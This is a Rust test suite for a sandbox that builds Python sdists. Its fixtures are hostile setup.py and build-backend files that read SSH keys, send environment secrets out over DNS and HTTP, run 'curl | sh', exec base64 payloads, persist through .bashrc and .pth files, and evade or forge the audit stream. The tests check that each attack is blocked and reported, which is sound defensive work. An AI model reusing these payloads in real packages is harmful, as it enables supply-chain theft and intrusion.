//! The fixture suite of issue "see and explain every attempt": each attack
//! sdist runs in the sandbox with a canary HOME and a 127.0.0.1 listener,
//! and each test asserts that (a) the attack had no effect and (b) the
//! report names it with the right kind, target, verdict and origin line.

mod common;

use std::path::Path;

use common::{BuildOpts, CanaryHome, Listener, SECRET, Sdist};
use serde_json::Value;

fn ready() -> bool {
    common::ready_for_builds()
}

/// The 1-based line of `needle` in `text` (the fixture's own source).
fn line_of(text: &str, needle: &str) -> u64 {
    text.lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("`{needle}` not in the fixture")) as u64
        + 1
}

struct Case {
    report: Value,
    log: String,
    code: i32,
    describe: String,
}

fn run_case(name: &str, files: &[(&str, &str)], home: Option<&Path>) -> Case {
    let tmp = tempfile::tempdir().unwrap();
    let mut sdist = Sdist::new(name, "0.1");
    for (path, text) in files {
        // The fixtures' setup.py says `fx`; the wheel must be the sdist's
        // own project (same line count, so origins keep their lines).
        let text = text.replace("setup(name='fx',", &format!("setup(name={name:?},"));
        sdist = sdist.file(path, &text);
    }
    let archive = sdist.write(tmp.path());
    let built = common::build(
        &archive,
        &tmp.path().join("out"),
        BuildOpts {
            home,
            env: vec![("AWS_SECRET_ACCESS_KEY".into(), SECRET.into())],
            ..Default::default()
        },
    );
    let describe = built.describe();
    Case {
        report: built
            .report
            .clone()
            .unwrap_or_else(|| panic!("no report: {describe}")),
        log: built.log.clone(),
        code: built.code(),
        describe,
    }
}

impl Case {
    fn findings(&self) -> &Vec<Value> {
        self.report["findings"].as_array().unwrap()
    }

    /// The finding of `kind` whose target contains `target`.
    fn find(&self, kind: &str, target: &str) -> &Value {
        self.findings()
            .iter()
            .find(|f| f["kind"] == kind && f["target"].as_str().unwrap_or("").contains(target))
            .unwrap_or_else(|| {
                panic!(
                    "no {kind} finding for `{target}`; findings:\n{}\n{}",
                    serde_json::to_string_pretty(self.findings()).unwrap(),
                    self.describe
                )
            })
    }

    fn assert_origin(&self, f: &Value, file: &str, line: u64, text: &str) {
        assert_eq!(f["origin"]["file"], file, "{f:#}");
        assert_eq!(f["origin"]["line"], line, "{f:#}");
        assert!(
            f["origin"]["text"].as_str().unwrap_or("").contains(text),
            "{f:#}"
        );
        assert_eq!(f["origin"]["in_sdist"], true);
    }
}

fn setup_py(body: &str) -> String {
    format!(
        "import os, sys, socket, subprocess, base64, ctypes\nfrom setuptools import setup\n{body}\nsetup(name='fx', version='0.1', py_modules=[])\n"
    )
}

#[test]
fn reading_the_ssh_key_and_posting_it() {
    if !ready() {
        return;
    }
    let home = CanaryHome::new();
    let listener = Listener::start();
    listener.self_check();
    let body = format!(
        r#"try:
    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
except OSError:
    key = 'none'
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)
    s.sendall(b'POST /k HTTP/1.0\r\n\r\n' + key.encode())
except OSError as e:
    print('post failed', e)
"#,
        port = listener.port
    );
    let setup = setup_py(&body);
    let case = run_case("fx-ssh", &[("setup.py", &setup)], Some(home.path()));
    home.assert_unchanged();
    assert_eq!(listener.connections(), 0);
    assert!(!case.log.contains(SECRET));
    let read = case.find("fs-read", "~/.ssh/id_rsa");
    assert_eq!(read["verdict"], "blocked");
    case.assert_origin(
        read,
        "setup.py",
        line_of(&setup, "id_rsa"),
        "open(os.path.expanduser",
    );
    let post = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    assert_eq!(post["verdict"], "blocked");
    assert!(post["decided_by"].as_str().unwrap().contains("seccomp"));
    case.assert_origin(
        post,
        "setup.py",
        line_of(&setup, "create_connection"),
        "create_connection",
    );
    assert_eq!(
        case.code, 1,
        "blocked findings fail the build by default: {}",
        case.describe
    );
}

#[test]
fn environment_secrets_over_http_and_dns() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let body = format!(
        r#"secret = os.environ.get('AWS_SECRET_ACCESS_KEY', 'scrubbed')
label = base64.b32encode(secret.encode()).decode().strip('=').lower()[:50]
try:
    socket.getaddrinfo(label + '.exfil.sdist-box.test', 443)
except OSError as e:
    print('dns failed', e)
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(secret.encode())
except OSError as e:
    print('http failed', e)
"#,
        port = listener.port
    );
    let setup = setup_py(&body);
    let case = run_case("fx-env", &[("setup.py", &setup)], None);
    assert_eq!(listener.connections(), 0);
    assert!(!case.log.contains(SECRET), "the secret reached the build");
    let dns = case.find("dns", "exfil.sdist-box.test");
    assert_eq!(dns["verdict"], "blocked");
    case.assert_origin(
        dns,
        "setup.py",
        line_of(&setup, "getaddrinfo"),
        "getaddrinfo",
    );
    assert!(!dns["target"].as_str().unwrap().contains(SECRET));
    let http = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    case.assert_origin(
        http,
        "setup.py",
        line_of(&setup, "create_connection"),
        "create_connection",
    );
    let dropped = case.report["sandbox"]["dropped_env"].as_array().unwrap();
    assert!(dropped.iter().any(|d| d == "AWS_SECRET_ACCESS_KEY"));
}

#[test]
fn curl_piped_to_sh_and_a_popen_one_liner() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let body = format!(
        "os.system('curl -s -m 3 http://127.0.0.1:{port}/install.sh | sh')\np = subprocess.Popen('echo pwned > /tmp/marker; cat /etc/hostname', shell=True)\np.wait()\n",
        port = listener.port
    );
    let setup = setup_py(&body);
    let case = run_case("fx-curl", &[("setup.py", &setup)], None);
    assert_eq!(listener.connections(), 0);
    let sh = case.find("exec", "curl -s -m 3");
    assert_eq!(sh["verdict"], "allowed");
    case.assert_origin(sh, "setup.py", line_of(&setup, "os.system"), "os.system");
    let connect = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    assert_eq!(connect["verdict"], "blocked");
    case.assert_origin(connect, "setup.py", line_of(&setup, "os.system"), "curl");
    let chain: Vec<&str> = connect["process_chain"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    // Each link names the program that ran; the shell's argv[0] (`sh`)
    // names its symlink, so its argv is shown as such.
    assert!(
        chain.iter().any(|c| c.contains("(argv: sh -c \"curl"))
            && chain.last().unwrap().starts_with("/usr/bin/curl -s -m 3"),
        "{chain:?}"
    );
    let popen = case.find("exec", "echo pwned");
    case.assert_origin(popen, "setup.py", line_of(&setup, "Popen"), "Popen");
}

#[test]
fn a_cmdclass_hook_that_connects_out() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let setup = format!(
        r#"import socket
from setuptools import setup
from setuptools.command.install import install

class Evil(install):
    def run(self):
        try:
            socket.create_connection(('127.0.0.1', {port}), timeout=3)
        except OSError as e:
            print('cmdclass connect failed', e)
        super().run()

setup(name='fx', version='0.1', py_modules=[], cmdclass={{'install': Evil}})
"#,
        port = listener.port
    );
    let case = run_case("fx-cmdclass", &[("setup.py", &setup)], None);
    assert_eq!(listener.connections(), 0);
    assert!(
        case.log.contains("cmdclass connect failed"),
        "{}",
        case.describe
    );
    let f = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    assert_eq!(f["verdict"], "blocked");
    case.assert_origin(
        f,
        "setup.py",
        line_of(&setup, "create_connection"),
        "create_connection",
    );
}

#[test]
fn an_in_tree_backend_attacks_in_get_requires() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let backend = format!(
        r#"import socket
def get_requires_for_build_wheel(config_settings=None):
    try:
        socket.create_connection(('127.0.0.1', {port}), timeout=3)
    except OSError:
        pass
    return []
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise RuntimeError('not needed for this test')
"#,
        port = listener.port
    );
    let case = run_case(
        "fx-backend",
        &[
            (
                "pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"evil_backend\"\nbackend-path = [\"_backend\"]\n",
            ),
            ("_backend/evil_backend.py", &backend),
        ],
        None,
    );
    assert_eq!(listener.connections(), 0);
    let f = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    case.assert_origin(
        f,
        "_backend/evil_backend.py",
        line_of(&backend, "create_connection"),
        "create_connection",
    );
}

#[test]
fn exec_of_a_base64_payload() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let payload = format!(
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {}), timeout=3)\nexcept OSError:\n    pass\n",
        listener.port
    );
    let encoded = {
        use std::io::Write;
        let mut out = Vec::new();
        let mut enc = base64_writer(&mut out);
        enc.write_all(payload.as_bytes()).unwrap();
        drop(enc);
        String::from_utf8(out).unwrap()
    };
    let setup = setup_py(&format!("exec(base64.b64decode('{encoded}'))\n"));
    let case = run_case("fx-b64", &[("setup.py", &setup)], None);
    assert_eq!(listener.connections(), 0);
    let dynamic = case.find("dynamic-code", "sha256:");
    case.assert_origin(
        dynamic,
        "setup.py",
        line_of(&setup, "exec(base64"),
        "b64decode",
    );
    let f = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    assert_eq!(f["verdict"], "blocked");
    case.assert_origin(f, "setup.py", line_of(&setup, "exec(base64"), "b64decode");
}

/// Base64 by hand (the tests avoid a crate for 10 lines).
fn base64_writer(out: &mut Vec<u8>) -> impl std::io::Write + '_ {
    struct W<'a>(&'a mut Vec<u8>, Vec<u8>);
    impl std::io::Write for W<'_> {
        fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
            self.1.extend_from_slice(b);
            Ok(b.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    impl Drop for W<'_> {
        fn drop(&mut self) {
            const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            for c in self.1.chunks(3) {
                let n = (c[0] as u32) << 16
                    | (*c.get(1).unwrap_or(&0) as u32) << 8
                    | *c.get(2).unwrap_or(&0) as u32;
                for i in 0..4 {
                    if i <= c.len() {
                        self.0.push(T[(n >> (18 - 6 * i) & 63) as usize]);
                    } else {
                        self.0.push(b'=');
                    }
                }
            }
        }
    }
    W(out, Vec::new())
}

#[test]
fn ctypes_connect_is_an_evasion() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let body = format!(
        r#"libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(2, 1, 0)
addr = bytes([2, 0]) + ({port}).to_bytes(2, 'big') + bytes([127, 0, 0, 1]) + bytes(8)
print('raw connect', libc.connect(fd, addr, 16), ctypes.get_errno())
"#,
        port = listener.port
    );
    let setup = setup_py(&body);
    let case = run_case("fx-ctypes", &[("setup.py", &setup)], None);
    assert_eq!(listener.connections(), 0);
    let f = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    assert_eq!(f["severity"], "evasion", "{f:#}");
    assert_eq!(f["verdict"], "blocked");
    assert_eq!(
        case.findings()[0]["severity"],
        "evasion",
        "evasions rank first"
    );
    assert_eq!(f["origin"]["file"], "setup.py");
}

#[test]
fn a_child_python_without_the_hook_is_an_evasion() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let body = format!(
        "subprocess.call([sys.executable, '-I', '-S', '-c', 'import socket\\ntry: socket.create_connection((\"127.0.0.1\", {port}), timeout=3)\\nexcept OSError: pass'])\n",
        port = listener.port
    );
    let setup = setup_py(&body);
    let case = run_case("fx-unhooked", &[("setup.py", &setup)], None);
    assert_eq!(listener.connections(), 0);
    let f = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    assert_eq!(f["severity"], "evasion", "{f:#}");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("without the audit hook")
    );
    case.assert_origin(f, "setup.py", line_of(&setup, "subprocess.call"), "-I");
}

#[test]
fn persistence_in_bashrc_and_a_pth_in_site_packages() {
    if !ready() {
        return;
    }
    let home = CanaryHome::new();
    let site = std::process::Command::new(common::python())
        .args([
            "-c",
            "import sysconfig; print(sysconfig.get_paths()['purelib'])",
        ])
        .output()
        .unwrap();
    let site = String::from_utf8_lossy(&site.stdout).trim().to_string();
    let pth = format!("{site}/zz_sdist_box_fixture.pth");
    let body = format!(
        r#"with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('curl evil | sh\n')
try:
    with open({pth:?}, 'w') as f:
        f.write('import os; os.system("id")\n')
except OSError as e:
    print('pth failed', e)
"#
    );
    let setup = setup_py(&body);
    let case = run_case("fx-persist", &[("setup.py", &setup)], Some(home.path()));
    home.assert_unchanged();
    assert!(
        !Path::new(&pth).exists(),
        "a .pth landed in the host's site-packages"
    );
    let bashrc = case.find("fs-write", "~/.bashrc");
    assert_eq!(
        bashrc["verdict"], "allowed",
        "the private HOME is writable, and thrown away"
    );
    case.assert_origin(bashrc, "setup.py", line_of(&setup, ".bashrc"), ".bashrc");
    let f = case.find("fs-write", "zz_sdist_box_fixture.pth");
    assert_eq!(f["verdict"], "blocked");
    assert!(
        f["decided_by"].as_str().unwrap().contains("landlock"),
        "{f:#}"
    );
    case.assert_origin(
        f,
        "setup.py",
        line_of(&setup, "zz_sdist_box_fixture"),
        "open(",
    );
}

#[test]
fn signalling_and_ptracing_the_parent() {
    if !ready() {
        return;
    }
    let body = r#"import signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as e:
    print('kill failed', e)
libc = ctypes.CDLL(None, use_errno=True)
print('ptrace', libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
"#;
    let setup = setup_py(body);
    let case = run_case("fx-signal", &[("setup.py", &setup)], None);
    // Neither reached anything: the build went on and finished.
    assert_eq!(
        case.report["outcome"]["status"], "built",
        "{}",
        case.describe
    );
    assert!(
        case.log.contains("ptrace -1 1"),
        "ptrace was not refused with EPERM: {}",
        case.log
    );
    let kill = case.find("signal", "signal 9");
    assert_eq!(kill["verdict"], "blocked");
    case.assert_origin(kill, "setup.py", line_of(&setup, "os.kill"), "os.kill");
    let ptrace = case.find("ptrace", "ptrace");
    assert_eq!(ptrace["verdict"], "blocked");
    assert!(ptrace["decided_by"].as_str().unwrap().contains("seccomp"));
    case.assert_origin(ptrace, "setup.py", line_of(&setup, "libc.ptrace"), "ptrace");
}

#[test]
fn a_benign_build_has_no_blocked_finding() {
    if !ready() {
        return;
    }
    let body = r#"subprocess.run([sys.executable, '-c', 'print(1)'], check=True)
os.makedirs('build/tmp', exist_ok=True)
open('build/tmp/x.txt', 'w').write('ok')
open('/tmp/scratch.txt', 'w').write('ok')
"#;
    let setup = setup_py(body);
    let case = run_case("fx-benign", &[("setup.py", &setup)], None);
    assert_eq!(
        case.report["outcome"]["status"], "built",
        "{}",
        case.describe
    );
    assert_eq!(case.code, 0, "{}", case.describe);
    let bad: Vec<&Value> = case
        .findings()
        .iter()
        .filter(|f| f["severity"] != "notice")
        .collect();
    assert!(bad.is_empty(), "benign build has findings: {bad:#?}");
}

#[test]
fn dns_over_tcp_is_decoded_too() {
    if !ready() {
        return;
    }
    let body = r#"import struct
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
for label in 'c2VjcmV0.tcp-exfil.sdist-box.test'.split('.'):
    q += bytes([len(label)]) + label.encode()
q += b'\x00' + struct.pack('>HH', 16, 1)
try:
    s = socket.create_connection(('127.0.0.53', 53), timeout=2)
    s.sendall(struct.pack('>H', len(q)) + q)
except OSError as e:
    print('tcp dns failed', e)
"#;
    let setup = setup_py(body);
    let case = run_case("fx-tcpdns", &[("setup.py", &setup)], None);
    let dns = case.find("dns", "c2VjcmV0.tcp-exfil.sdist-box.test");
    assert_eq!(dns["verdict"], "blocked");
    // `socket.send*` raises no audit event; the connect that opened the
    // stream is the line the hook saw.
    case.assert_origin(
        dns,
        "setup.py",
        line_of(&setup, "create_connection"),
        "create_connection",
    );
}

#[test]
fn a_connect_flood_is_survived_and_bounded() {
    if !ready() {
        return;
    }
    let listener = Listener::start();
    let body = format!(
        r#"import time
# Flood once (setup.py runs in each of the build's hook calls).
n = 30000 if os.path.exists('flood.done') else 0
open('flood.done', 'w').close()
t = time.monotonic()
while n < 12000:
    s = socket.socket()
    try:
        s.connect(('127.0.0.1', {port}))
    except OSError:
        pass
    s.close()
    n += 1
print('FLOOD done', n, round(time.monotonic() - t, 2))
"#,
        port = listener.port
    );
    let setup = setup_py(&body);
    let case = run_case("fx-flood", &[("setup.py", &setup)], None);
    assert!(case.log.contains("FLOOD done"), "{}", case.describe);
    assert_eq!(
        case.report["outcome"]["status"], "built",
        "{}",
        case.describe
    );
    assert_eq!(listener.connections(), 0);
    let streams = &case.report["streams"];
    assert!(
        streams["kernel_notifications"].as_u64().unwrap() >= 12000,
        "{streams}"
    );
    assert!(
        streams["kernel_dropped"].as_u64().unwrap() > 0,
        "the flood guard never engaged: {streams}"
    );
    let f = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
    assert!(f["count"].as_u64().unwrap() >= 1000, "{f:#}");
    assert!(case.report["kernel_events"].as_array().unwrap().len() <= 2000);
}

#[test]
fn a_forged_or_closed_event_stream_is_an_evasion() {
    if !ready() {
        return;
    }
    let body = r#"os.write(3, b'{"v":1,"pid":999,"ppid":1,"t":1,"seq":5,"ev":"socket.connect","args":[],"origin":"/build/src/innocent.py:1","stack":[]}\n')
os.write(3, b'this is not a line the hook writes\n')
os.close(3)
"#;
    let setup = setup_py(body);
    let case = run_case("fx-forge", &[("setup.py", &setup)], None);
    let tampered: Vec<&Value> = case
        .findings()
        .iter()
        .filter(|f| f["kind"] == "stream-tampered")
        .collect();
    assert!(tampered.len() >= 2, "{:#?}", case.findings());
    assert!(tampered.iter().all(|f| f["severity"] == "evasion"));
    assert_eq!(case.findings()[0]["severity"], "evasion");
    assert_eq!(case.code, 1);
}
